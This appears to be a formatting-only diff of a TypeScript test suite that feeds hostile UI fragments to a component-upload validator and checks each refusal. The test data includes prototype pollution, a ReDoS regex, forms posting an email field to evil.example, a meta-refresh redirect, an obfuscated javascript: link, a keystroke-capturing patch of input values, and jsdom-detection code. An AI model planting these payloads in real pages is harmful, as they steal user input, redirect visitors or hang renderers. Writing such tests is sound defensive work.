@@ -4,8 +4,7 @@ import { handWritten, remoteOf, sampleUpload, text } from './upload';
 
 type Refusal = Pick<BadRemote, 'rule' | 'reason'>;
 
-const markup = (html: string) =>
-  `() => jsx('div', { dangerouslySetInnerHTML: { __html: ${JSON.stringify(html)} } })`;
+const markup = (html: string) => `() => jsx('div', { dangerouslySetInnerHTML: { __html: ${JSON.stringify(html)} } })`;
 /** Runs in a browser once the fragment is mounted. */
 const effect = (code: string) =>
   `() => { React.useEffect(() => { ${code} }, []); return jsx('p', { children: 'x' }); }`;
@@ -16,110 +15,121 @@ const patches = (name: string): Refusal => ({
   reason: new RegExp(`(server|remoteEntry)\\.js.* changes ${name.replaceAll('.', '\\.')}`),
 });
 
-const fragments: readonly (readonly [what: string, component: string, refusal: Refusal, slots?: readonly string[]])[] = [
+const fragments: readonly (readonly [what: string, component: string, refusal: Refusal, slots?: readonly string[]])[] =
   [
-    'that merges JSON into the prototype of all objects',
-    `() => { const merge = (to, from) => { for (const key of Object.keys(from)) if (typeof from[key] === 'object') merge(to[key] ?? {}, from[key]); else to[key] = from[key]; }; merge({}, JSON.parse('{"__proto__":{"polluted":"yes"}}')); return jsx('p', { children: 'x' }); }`,
-    patches('Object.prototype.polluted'),
-  ],
-  [
-    'with a regular expression that backtracks for years',
-    text("String(/^(a+)+$/.test('a'.repeat(40) + 'b'))"),
-    renders(/ran for more than 700 ms/),
-  ],
-  [
-    'that compiles WebAssembly',
-    text('String(new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])))'),
-    renders(/WebAssembly is not defined \(server\.js line 3/),
-  ],
-  [
-    'that sleeps in shared memory',
-    text('Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 600000)'),
-    renders(/(Atomics|SharedArrayBuffer) is not defined \(server\.js line 3/),
-  ],
-  [
-    'that nests a slot with a proxy as props which never ends',
-    "() => jsx(kit.Slot, { name: 'inner', props: new Proxy({}, { ownKeys() { for (;;); } }) })",
-    renders(/ran for more than 700 ms/),
-    ['inner'],
-  ],
-  [
-    'whose props of a slot become another value when they are written',
-    "() => jsx(kit.Slot, { name: 'inner', props: { toJSON: () => '<main>' } })",
-    renders(/nests a value that is not a slot/),
-    ['inner'],
-  ],
-  [
-    'whose children never end',
-    "() => jsx('p', { children: (function* () { for (;;) yield 'x'; })() })",
-    renders(/ran for more than 700 ms|took more than 128 MB|ended its renderer/),
-  ],
-  [
-    'whose component is a promise',
-    "async () => jsx('p', { children: 'x' })",
-    renders(/suspend|async|not valid as a React child/i),
-  ],
-  [
-    'with an attribute that counts how often it is read',
-    "(() => { let reads = 0; const title = { toString: () => String((reads += 1)) }; return () => jsx('p', { title, children: 'x' }); })()",
-    { rule: 'hydrates', reason: /title/ },
-  ],
-  [
-    'that begins work after a promise',
-    "() => { void Promise.resolve().then(() => setInterval(() => {}, 5)); return jsx('p', { children: 'x' }); }",
-    { rule: 'pure', reason: /leaves work to run later: setInterval was called/ },
-  ],
-  ['with HTML in a drawing', markup('<svg><foreignObject><p>x</p></foreignObject></svg>'), renders(/<foreignobject> in <svg>/)],
-  ['that moves all addresses of the page', markup('<base href="https://evil.example/">'), renders(/<base> is not for slots/)],
-  [
-    'that sends visitors elsewhere after a second',
-    markup('<meta http-equiv="refresh" content="1;url=https://evil.example/">'),
-    renders(/<meta> is not for slots/),
-  ],
-  ['with an id of the host', markup('<p id="main">x</p>'), renders(/the id "main", which may be the host's/)],
-  [
-    'whose form posts to another site',
-    markup('<form method="post" action="//evil.example/take"><label>Email <input name="email"></label><button>Save</button></form>'),
-    marked(/<form> that posts to another site, action="\/\/evil\.example\/take"/),
-  ],
-  [
-    'whose button posts its form to another site',
-    markup('<form method="post" action="/x"><button formaction="https://evil.example/">Save</button></form>'),
-    marked(/<button> that posts to another site, formaction=/),
-  ],
-  [
-    'whose link is a script, spelled oddly',
-    markup('<a href=" java\tscript:alert(1)">x</a>'),
-    marked(/<a> with an address that is a script, href=/),
-  ],
-  [
-    'that formats numbers for everybody',
-    effect("Intl.NumberFormat.prototype.formatToParts = () => [{ type: 'integer', value: '1' }];"),
-    patches('Intl.NumberFormat.prototype.formatToParts'),
-  ],
-  [
-    'that reads what is typed into every field',
-    effect(
-      "const { get, set } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); Object.defineProperty(HTMLInputElement.prototype, 'value', { configurable: true, get() { const typed = get.call(this); globalThis.typed = typed; return typed; }, set });",
-    ),
-    patches('HTMLInputElement.prototype.value'),
-  ],
-  [
-    'that takes what others send in the background',
-    effect('Navigator.prototype.sendBeacon = () => true;'),
-    patches('Navigator.prototype.sendBeacon'),
-  ],
-  [
-    'that sees for everybody what is visible',
-    effect('globalThis.IntersectionObserver = class { observe() {} unobserve() {} disconnect() {} };'),
-    patches('IntersectionObserver'),
-  ],
-  [
-    'that behaves only where it is tested: in jsdom',
-    `(() => { const isTest = typeof navigator === 'undefined' || /jsdom|headless/i.test(navigator.userAgent); return ${text("isTest ? 'good' : 'bad'")}; })()`,
-    { rule: 'hydrates', reason: /Hydration failed/ },
-  ],
-];
+    [
+      'that merges JSON into the prototype of all objects',
+      `() => { const merge = (to, from) => { for (const key of Object.keys(from)) if (typeof from[key] === 'object') merge(to[key] ?? {}, from[key]); else to[key] = from[key]; }; merge({}, JSON.parse('{"__proto__":{"polluted":"yes"}}')); return jsx('p', { children: 'x' }); }`,
+      patches('Object.prototype.polluted'),
+    ],
+    [
+      'with a regular expression that backtracks for years',
+      text("String(/^(a+)+$/.test('a'.repeat(40) + 'b'))"),
+      renders(/ran for more than 700 ms/),
+    ],
+    [
+      'that compiles WebAssembly',
+      text('String(new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])))'),
+      renders(/WebAssembly is not defined \(server\.js line 3/),
+    ],
+    [
+      'that sleeps in shared memory',
+      text('Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 600000)'),
+      renders(/(Atomics|SharedArrayBuffer) is not defined \(server\.js line 3/),
+    ],
+    [
+      'that nests a slot with a proxy as props which never ends',
+      "() => jsx(kit.Slot, { name: 'inner', props: new Proxy({}, { ownKeys() { for (;;); } }) })",
+      renders(/ran for more than 700 ms/),
+      ['inner'],
+    ],
+    [
+      'whose props of a slot become another value when they are written',
+      "() => jsx(kit.Slot, { name: 'inner', props: { toJSON: () => '<main>' } })",
+      renders(/nests a value that is not a slot/),
+      ['inner'],
+    ],
+    [
+      'whose children never end',
+      "() => jsx('p', { children: (function* () { for (;;) yield 'x'; })() })",
+      renders(/ran for more than 700 ms|took more than 128 MB|ended its renderer/),
+    ],
+    [
+      'whose component is a promise',
+      "async () => jsx('p', { children: 'x' })",
+      renders(/suspend|async|not valid as a React child/i),
+    ],
+    [
+      'with an attribute that counts how often it is read',
+      "(() => { let reads = 0; const title = { toString: () => String((reads += 1)) }; return () => jsx('p', { title, children: 'x' }); })()",
+      { rule: 'hydrates', reason: /title/ },
+    ],
+    [
+      'that begins work after a promise',
+      "() => { void Promise.resolve().then(() => setInterval(() => {}, 5)); return jsx('p', { children: 'x' }); }",
+      { rule: 'pure', reason: /leaves work to run later: setInterval was called/ },
+    ],
+    [
+      'with HTML in a drawing',
+      markup('<svg><foreignObject><p>x</p></foreignObject></svg>'),
+      renders(/<foreignobject> in <svg>/),
+    ],
+    [
+      'that moves all addresses of the page',
+      markup('<base href="https://evil.example/">'),
+      renders(/<base> is not for slots/),
+    ],
+    [
+      'that sends visitors elsewhere after a second',
+      markup('<meta http-equiv="refresh" content="1;url=https://evil.example/">'),
+      renders(/<meta> is not for slots/),
+    ],
+    ['with an id of the host', markup('<p id="main">x</p>'), renders(/the id "main", which may be the host's/)],
+    [
+      'whose form posts to another site',
+      markup(
+        '<form method="post" action="//evil.example/take"><label>Email <input name="email"></label><button>Save</button></form>',
+      ),
+      marked(/<form> that posts to another site, action="\/\/evil\.example\/take"/),
+    ],
+    [
+      'whose button posts its form to another site',
+      markup('<form method="post" action="/x"><button formaction="https://evil.example/">Save</button></form>'),
+      marked(/<button> that posts to another site, formaction=/),
+    ],
+    [
+      'whose link is a script, spelled oddly',
+      markup('<a href=" java\tscript:alert(1)">x</a>'),
+      marked(/<a> with an address that is a script, href=/),
+    ],
+    [
+      'that formats numbers for everybody',
+      effect("Intl.NumberFormat.prototype.formatToParts = () => [{ type: 'integer', value: '1' }];"),
+      patches('Intl.NumberFormat.prototype.formatToParts'),
+    ],
+    [
+      'that reads what is typed into every field',
+      effect(
+        "const { get, set } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); Object.defineProperty(HTMLInputElement.prototype, 'value', { configurable: true, get() { const typed = get.call(this); globalThis.typed = typed; return typed; }, set });",
+      ),
+      patches('HTMLInputElement.prototype.value'),
+    ],
+    [
+      'that takes what others send in the background',
+      effect('Navigator.prototype.sendBeacon = () => true;'),
+      patches('Navigator.prototype.sendBeacon'),
+    ],
+    [
+      'that sees for everybody what is visible',
+      effect('globalThis.IntersectionObserver = class { observe() {} unobserve() {} disconnect() {} };'),
+      patches('IntersectionObserver'),
+    ],
+    [
+      'that behaves only where it is tested: in jsdom',
+      `(() => { const isTest = typeof navigator === 'undefined' || /jsdom|headless/i.test(navigator.userAgent); return ${text("isTest ? 'good' : 'bad'")}; })()`,
+      { rule: 'hydrates', reason: /Hydration failed/ },
+    ],
+  ];
 
 /** The start of a `server.js` with a good component. */
 const good = [
@@ -140,7 +150,8 @@ const servers: readonly (readonly [what: string, server: string, refusal: Refusa
   ],
 ];
 
-const containerOf = (name: string) => `${name} = { init() {}, async get() { return () => ({ default: { Component() { return null; } } }); } };`;
+const containerOf = (name: string) =>
+  `${name} = { init() {}, async get() { return () => ({ default: { Component() { return null; } } }); } };`;
 
 const entries: readonly (readonly [what: string, entry: string, refusal: Refusal])[] = [
   [
